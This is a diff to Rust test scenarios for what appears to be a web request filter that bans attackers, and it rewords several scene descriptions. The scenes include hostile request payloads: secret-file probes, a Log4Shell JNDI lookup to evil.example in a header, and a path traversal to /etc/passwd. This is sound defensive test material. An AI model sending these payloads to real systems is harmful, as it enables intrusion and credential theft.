@@ -131,7 +131,7 @@ const JSON: &str = "application/json";
 pub(crate) fn scenes() -> Vec<Scene> {
     vec![
         attack(
-            "looks for secrets that were left lying about, and is banned",
+            "looks for exposed secrets, and is banned",
             vec![
                 Call::bad("/.env"),
                 Call::bad("/wp-login.php"),
@@ -196,7 +196,7 @@ pub(crate) fn scenes() -> Vec<Scene> {
             vec![Call::bad("/").with("X-Api-Version", "${jndi:ldap://evil.example/a}")],
         ),
         attack(
-            "asks for a file of the server",
+            "requests a file of the server",
             vec![Call::bad("/search?q=../../../../etc/passwd")],
         ),
         attack(
